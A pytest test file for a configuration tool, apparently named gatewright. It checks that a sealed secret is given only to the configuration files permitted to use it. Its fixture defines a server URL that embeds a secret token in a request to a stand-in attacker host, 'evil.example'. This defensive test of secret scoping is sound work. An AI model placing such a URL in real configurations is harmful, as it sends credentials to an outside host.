"""A secret is for the configuration that it was set for, whoever else names it."""

from __future__ import annotations

from pathlib import Path

import pytest

from gatewright.config import load
from gatewright.config.sealed_file import SealedFile
from gatewright.config.secret_users import (
    allow,
    configurations,
    disallow,
    for_new_value,
    refusal,
    users,
)

TEXT = """\
[secrets]
store = "file"
[[servers]]
id = "a"
url = "https://evil.example/${secret:token}"
"""


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    return {"HOME": str(tmp_path / "home"), "GATEWRIGHT_STATE": str(tmp_path / "state")}


def configured(folder: Path, name: str) -> Path:
    (folder / name).mkdir(exist_ok=True)
    file = folder / name / "mgp.toml"
    file.write_text(TEXT)
    return file


def why(file: Path, environ: dict[str, str]) -> str:
    (server,) = load(file, environ=environ).servers
    return "" if server.problem is None else str(server.problem)


def test_another_configuration_that_names_it_is_refused_with_the_command_that_permits_it(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    mine, other = configured(tmp_path, "mine"), configured(tmp_path, "other")
    allow(environ, tmp_path / "state", "token", [mine])
    SealedFile(tmp_path / "state").put("token", "s3cret")
    assert why(mine, environ) == ""
    said = why(other, environ)
    assert f"the secret token was set for {mine} and not for this configuration" in said
    assert f"gatewright secret allow token --config {other}" in said
    assert load(other, environ=environ).servers[0].url == ""
    allow(environ, tmp_path / "state", "token", [other])
    assert why(other, environ) == why(mine, environ) == ""


def test_one_that_was_kept_before_anybody_said_for_whom_is_given_to_nobody(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    """What an earlier version kept: safe, and it says what to do."""
    mine = configured(tmp_path, "mine")
    SealedFile(tmp_path / "state").put("token", "s3cret")
    assert "kept without saying which configuration may use it" in why(mine, environ)
    assert "gatewright secret allow token" in why(mine, environ)


def test_one_that_is_not_there_is_missing_and_not_forbidden(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    assert "is not set" in why(configured(tmp_path, "mine"), environ)


def test_another_state_folder_has_other_secrets(tmp_path: Path, environ: dict[str, str]) -> None:
    mine = configured(tmp_path, "mine")
    allow(environ, tmp_path / "elsewhere", "token", [mine])
    SealedFile(tmp_path / "state").put("token", "s3cret")
    assert why(mine, environ) != ""


def test_a_link_to_a_permitted_configuration_is_another_one(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    mine = configured(tmp_path, "mine")
    allow(environ, tmp_path / "state", "token", [mine])
    SealedFile(tmp_path / "state").put("token", "s3cret")
    (tmp_path / "other").mkdir()
    link = tmp_path / "other" / "mgp.toml"
    link.symlink_to(mine)
    assert "not for this configuration" in why(link, environ)


def test_what_stands_on_standard_input_is_a_configuration_of_its_own(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    store = tmp_path / "state"
    allow(environ, store, "token", [tmp_path / "mgp.toml"])
    found = refusal(environ, store, "token", Path("-"))
    assert found is not None
    assert "secret allow --config=- -- token`" in found[1]
    allow(environ, store, "token", [Path("-")])
    assert refusal(environ, store, "token", Path("-")) is None


def test_a_secret_that_is_forgotten_is_for_nobody_any_more(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    allow(environ, tmp_path, "token", [tmp_path / "mgp.toml"])
    disallow(environ, tmp_path, "token")
    assert users(environ, tmp_path, "token") == []


def test_it_is_set_for_the_named_file_else_for_those_in_force_here() -> None:
    files = (Path("/a"), Path("/b"))
    assert configurations(files, Path("/c")) == [Path("/c")]
    assert configurations(files, None) == [Path("/a"), Path("/b")]
    assert configurations((), None) == [Path("mgp.toml")]


def test_a_value_that_cannot_be_kept_leaves_its_users_as_they_were(
    tmp_path: Path, environ: dict[str, str]
) -> None:
    mine, other, store = tmp_path / "mine.toml", tmp_path / "other.toml", tmp_path / "state"
    back = allow(environ, store, "token", [mine])

    def fail() -> None:
        assert users(environ, store, "token") == []
        raise OSError("full")

    with pytest.raises(OSError, match="full"), for_new_value(environ, store, "token", [other]):
        fail()
    assert users(environ, store, "token") == [str(mine)]
    allow(environ, store, "token", [mine, other])()
    assert users(environ, store, "token") == [str(mine)]
    back()
    assert users(environ, store, "token") == []
